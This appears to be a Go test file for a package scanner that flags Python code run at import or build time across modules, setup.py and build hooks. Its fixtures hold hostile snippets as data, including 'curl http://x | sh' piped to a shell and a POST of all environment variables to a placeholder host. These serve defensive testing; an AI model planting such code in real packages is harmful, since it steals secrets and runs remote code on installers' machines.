package inspect

import (
	"archive/tar"
	"bytes"
	"compress/gzip"
	"encoding/json"
	"fmt"
	"strings"
	"sync"
	"testing"

	"airlock/internal/fakepypi"
	"airlock/pycode"
)

// held returns the high or critical findings of a wheel built from files.
func heldIn(t *testing.T, rep *Report) []Finding {
	t.Helper()
	var out []Finding
	for _, f := range rep.Findings {
		if f.Severity == High || f.Severity == Critical {
			out = append(out, f)
		}
	}
	return out
}

const bootSpawn = "import subprocess\n\ndef _spawn(cmd):\n    subprocess.Popen(cmd)\n\ndef init():\n    _spawn(['/bin/sh', '-c', 'id'])\n\nclass Runner:\n    def start(self):\n        init()\n"

// A function defined in one module and called at import by another runs
// at import: the finding is as severe as if it were at the top level, on
// the line that does it, and names who calls it.
func TestCallsBetweenModulesAreFollowed(t *testing.T) {
	for _, tt := range []struct {
		name  string
		files map[string]string
		// want is the path and line held, and a word of the message ("" =
		// nothing held).
		path   string
		line   int
		caller string
	}{
		{"imported and called", map[string]string{
			"pkg/__init__.py": "from ._boot import init\ninit()\n", "pkg/_boot.py": bootSpawn}, "pkg/_boot.py", 4, "pkg/__init__.py calls pkg._boot.init"},
		{"aliased, through a local function", map[string]string{
			"pkg/__init__.py": "from . import _boot as b\n\ndef _setup():\n    b.init()\n\n_setup()\n", "pkg/_boot.py": bootSpawn}, "pkg/_boot.py", 4, "pkg/__init__.py"},
		{"a method of an imported class", map[string]string{
			"pkg/__init__.py": "from pkg._boot import Runner\nRunner().start()\n", "pkg/_boot.py": bootSpawn}, "pkg/_boot.py", 4, "pkg._boot.Runner.start"},
		{"re-exported by a package, called by a sibling", map[string]string{
			"pkg/__init__.py": "from .util import log\n", "pkg/util/__init__.py": "from ._impl import init as log\n",
			"pkg/util/_impl.py": bootSpawn, "pkg/cli.py": "from pkg import log\nlog()\n"}, "pkg/util/_impl.py", 4, "pkg/cli.py"},
		{"through a star import", map[string]string{
			"pkg/__init__.py": "from .impl import *\n", "pkg/impl.py": "from ._boot import *\n", "pkg/_boot.py": bootSpawn,
			"pkg/main.py": "import pkg\npkg.init()\n"}, "pkg/_boot.py", 4, "pkg/main.py"},
		{"three modules deep", map[string]string{
			"pkg/__init__.py": "from .a import go\ngo()\n", "pkg/a.py": "from .b import step\n\ndef go():\n    step()\n",
			"pkg/b.py": "from ._boot import init\n\ndef step():\n    init()\n", "pkg/_boot.py": bootSpawn}, "pkg/_boot.py", 4, "pkg/__init__.py calls pkg.a.go at its top level"},
		{"handed to a thread", map[string]string{
			"pkg/__init__.py": "import threading\nfrom ._boot import init\nthreading.Thread(target=init).start()\n", "pkg/_boot.py": bootSpawn}, "pkg/_boot.py", 4, "pkg/__init__.py"},
		{"used as a decorator", map[string]string{
			"pkg/__init__.py": "from ._hooks import register\n\n@register\ndef f():\n    pass\n",
			"pkg/_hooks.py":   "import os\n\ndef register(fn):\n    os.system('curl http://x | sh')\n    return fn\n"}, "pkg/_hooks.py", 4, "pkg._hooks.register"},
		{"exfiltration in a sibling", map[string]string{
			"pkg/__init__.py":  "from .telemetry import ping\nping()\n",
			"pkg/telemetry.py": "import os, requests\n\ndef ping():\n    requests.post('https://x', json=dict(os.environ))\n"}, "pkg/telemetry.py", 4, "pkg/__init__.py"},
		// Imported, but called only inside functions nobody calls at import.
		{"called only later", map[string]string{
			"pkg/__init__.py": "from ._boot import init\n\ndef main():\n    init()\n", "pkg/_boot.py": bootSpawn}, "", 0, ""},
		{"a harmless sibling function", map[string]string{
			"pkg/__init__.py": "from ._boot import helper\nhelper()\n", "pkg/_boot.py": bootSpawn + "\ndef helper():\n    return 1\n"}, "", 0, ""},
	} {
		t.Run(tt.name, func(t *testing.T) {
			extra := map[string]string{}
			for k, v := range tt.files {
				extra[k] = v
			}
			fn, data := wheel(t, fakepypi.WheelSpec{Name: "pkg", Version: "1.0", Extra: extra})
			rep, err := inspectBytes(t, fn, data)
			if err != nil {
				t.Fatal(err)
			}
			held := heldIn(t, rep)
			if tt.path == "" {
				if len(held) != 0 {
					t.Fatalf("held: %+v", held)
				}
				return
			}
			if len(held) != 1 || held[0].Path != tt.path || held[0].Line != tt.line {
				t.Fatalf("held %+v, want %s:%d", held, tt.path, tt.line)
			}
			if !strings.Contains(held[0].Message, tt.caller) || !strings.Contains(held[0].Message, "when the package is imported") {
				t.Errorf("message %q does not say %q", held[0].Message, tt.caller)
			}
			for _, f := range rep.Findings {
				if f.Path == tt.path && f.Line == tt.line && f.Severity == Medium {
					t.Errorf("the not-at-import finding stays beside the held one: %+v", f)
				}
			}
		})
	}
}

// setup.py importing the package's own build helper runs it at build.
func TestSetupPyCallsIntoThePackage(t *testing.T) {
	names := map[string]string{
		"demo-1.0/setup.py":              "from setuptools import setup\nfrom demo._build import prepare\nprepare()\nsetup(name='demo')\n",
		"demo-1.0/demo/__init__.py":      "",
		"demo-1.0/demo/_build.py":        "import os\n\ndef prepare():\n    os.system('curl -s http://x/p | sh')\n",
		"demo-1.0/tools/not_imported.py": "import os\n\ndef f():\n    os.system('x')\n",
	}
	var headers []tar.Header
	for n := range names {
		headers = append(headers, tar.Header{Name: n, Typeflag: tar.TypeReg})
	}
	rep, err := inspectBytes(t, "demo-1.0.tar.gz", tarGz(t, headers, names))
	if err != nil {
		t.Fatal(err)
	}
	held := heldIn(t, rep)
	if len(held) != 1 || held[0].Path != "demo-1.0/demo/_build.py" || held[0].Line != 4 ||
		!strings.Contains(held[0].Message, "built or installed") || !strings.Contains(held[0].Message, "demo-1.0/setup.py calls demo._build.prepare") {
		t.Fatalf("held: %+v", held)
	}
}

// sdist builds files from an sdist's root folder's relative paths.
func sdist(t *testing.T, files map[string]string) *Report {
	t.Helper()
	var headers []tar.Header
	bodies := map[string]string{}
	for n, b := range files {
		headers = append(headers, tar.Header{Name: "demo-1.0/" + n, Typeflag: tar.TypeReg})
		bodies["demo-1.0/"+n] = b
	}
	rep, err := inspectBytes(t, "demo-1.0.tar.gz", tarGz(t, headers, bodies))
	if err != nil {
		t.Fatal(err)
	}
	return rep
}

// What a build runs beyond setup.py's top level: an in-tree backend's
// hooks, hatchling's and pdm-backend's build hooks, poetry's build script,
// a file setup.py executes. Each holds on the file and line that does it.
func TestBuildTimeCodeBeyondSetupPy(t *testing.T) {
	const spawnHook = "import subprocess\n\ndef build_wheel(wheel_directory, config_settings=None, metadata_directory=None):\n    subprocess.Popen(['sh', '-c', 'id'])\n"
	for _, tt := range []struct {
		name  string
		files map[string]string
		path  string // "" = nothing held
		line  int
		why   string
	}{
		{"in-tree backend hook", map[string]string{
			"pyproject.toml":           "[build-system]\nrequires = []\nbuild-backend = \"backend\"\nbackend-path = [\"_custom_build\"]\n",
			"_custom_build/backend.py": spawnHook}, "demo-1.0/_custom_build/backend.py", 4, "build_wheel in demo-1.0/_custom_build/backend.py is a build hook"},
		{"in-tree backend in a folder never installed, dotted", map[string]string{
			"pyproject.toml":   "[build-system]\nbuild-backend = \"be.impl:backend\"\nbackend-path = [\"tools\"]\n",
			"tools/be/impl.py": "import os\nos.system('id')\n"}, "demo-1.0/tools/be/impl.py", 2, "built or installed"},
		{"hatchling hook at a custom path", map[string]string{
			"pyproject.toml":   "[build-system]\nbuild-backend = \"hatchling.build\"\n[tool.hatch.build.targets.wheel.hooks.custom]\npath = \"scripts/hooks.py\"\n",
			"scripts/hooks.py": "import os\nfrom hatchling.builders.hooks.plugin.interface import BuildHookInterface\n\nclass H(BuildHookInterface):\n    def initialize(self, version, build_data):\n        os.system('curl http://x | sh')\n"}, "demo-1.0/scripts/hooks.py", 6, "H.initialize"},
		{"hatch_build.py by its name", map[string]string{
			"hatch_build.py": "import os\n\nclass H:\n    def finalize(self, version, build_data, artifact):\n        os.system('id')\n"}, "demo-1.0/hatch_build.py", 5, "H.finalize"},
		{"pdm_build.py", map[string]string{
			"pdm_build.py": "import subprocess\n\ndef pdm_build_update_files(context, files):\n    subprocess.run(['id'])\n"}, "demo-1.0/pdm_build.py", 4, "pdm_build_update_files"},
		{"poetry build script", map[string]string{
			"pyproject.toml":     "[tool.poetry.build]\nscript = \"tools/build_ext.py\"\n",
			"tools/build_ext.py": "import subprocess\n\ndef build(setup_kwargs):\n    subprocess.Popen(['id'])\n"}, "demo-1.0/tools/build_ext.py", 4, "build in demo-1.0/tools/build_ext.py"},
		{"a file setup.py executes", map[string]string{
			"setup.py":      "import os\nhere = os.path.dirname(__file__)\nexec(compile(open(os.path.join(here, 'tools', 'meta.py')).read(), 'meta.py', 'exec'))\n",
			"tools/meta.py": "import os\nos.system('id')\n"}, "demo-1.0/tools/meta.py", 2, "built or installed"},
		// What builds never run stays informational.
		{"a hook file pyproject does not name", map[string]string{
			"pyproject.toml":   "[build-system]\nbuild-backend = \"hatchling.build\"\n",
			"scripts/hooks.py": "import os\n\nclass H:\n    def initialize(self, version, build_data):\n        os.system('id')\n"}, "", 0, ""},
		{"a backend's helper function nobody calls", map[string]string{
			"pyproject.toml": "[build-system]\nbuild-backend = \"backend\"\nbackend-path = [\"_b\"]\n",
			"_b/backend.py":  "import subprocess\n\ndef release():\n    subprocess.run(['twine', 'upload'])\n\ndef build_wheel(d, c=None, m=None):\n    return 'x.whl'\n"}, "", 0, ""},
	} {
		t.Run(tt.name, func(t *testing.T) {
			rep := sdist(t, tt.files)
			held := heldIn(t, rep)
			if tt.path == "" {
				if len(held) != 0 {
					t.Fatalf("held: %+v", held)
				}
				return
			}
			if len(held) != 1 || held[0].Path != tt.path || held[0].Line != tt.line || !strings.Contains(held[0].Message, tt.why) {
				t.Fatalf("held %+v, want %s:%d (%s)", held, tt.path, tt.line, tt.why)
			}
		})
	}
}

// mapMemo is a Memo in memory; analyses run concurrently, so it locks.
type mapMemo struct {
	mu sync.Mutex
	m  map[string][]byte
}

func (m *mapMemo) Get(k string) ([]byte, bool) {
	m.mu.Lock()
	defer m.mu.Unlock()
	v, ok := m.m[k]
	return v, ok
}

func (m *mapMemo) Put(k string, v []byte) {
	m.mu.Lock()
	defer m.mu.Unlock()
	m.m[k] = v
}

// Analyses are remembered by content beyond the process: a second
// inspection reads them from the memo instead of parsing (the report is
// the same), and what the memo says is what is used.
func TestAnalysesRememberedInTheMemo(t *testing.T) {
	fn, data := wheel(t, fakepypi.WheelSpec{Name: "pkg", Version: "1.0", Extra: map[string]string{
		"pkg/__init__.py": "from ._boot import init\ninit()\n", "pkg/_boot.py": bootSpawn}})
	memo := &mapMemo{m: map[string][]byte{}}
	lim := DefaultLimits()
	lim.Memo = memo
	clearCache := func() {
		analysedCache.Lock()
		analysedCache.m = map[string]*pycode.Module{}
		analysedCache.Unlock()
	}
	clearCache()
	first, err := File(bytes.NewReader(data), int64(len(data)), fn, lim)
	if err != nil {
		t.Fatal(err)
	}
	if len(memo.m) == 0 {
		t.Fatal("nothing remembered")
	}
	clearCache()
	second, err := File(bytes.NewReader(data), int64(len(data)), fn, lim)
	if err != nil || fmt.Sprint(first.Findings) != fmt.Sprint(second.Findings) {
		t.Fatalf("from the memo: %v\n%+v\nwant %+v", err, second.Findings, first.Findings)
	}
	// A memo that says a module does nothing is believed (it is the
	// store's, written by this code): the spawn is then not found.
	for k := range memo.m {
		var buf bytes.Buffer
		zw := gzip.NewWriter(&buf)
		json.NewEncoder(zw).Encode(&pycode.Module{Parsed: true})
		zw.Close()
		memo.m[k] = buf.Bytes()
	}
	clearCache()
	third, _ := File(bytes.NewReader(data), int64(len(data)), fn, lim)
	if len(heldIn(t, third)) != 0 {
		t.Errorf("the memo was not read: %+v", third.Findings)
	}
	// A value that cannot be read is a miss: parsed again.
	for k := range memo.m {
		memo.m[k] = []byte("not gzip")
	}
	clearCache()
	fourth, _ := File(bytes.NewReader(data), int64(len(data)), fn, lim)
	if fmt.Sprint(fourth.Findings) != fmt.Sprint(first.Findings) {
		t.Errorf("an unreadable memo value: %+v", fourth.Findings)
	}
}
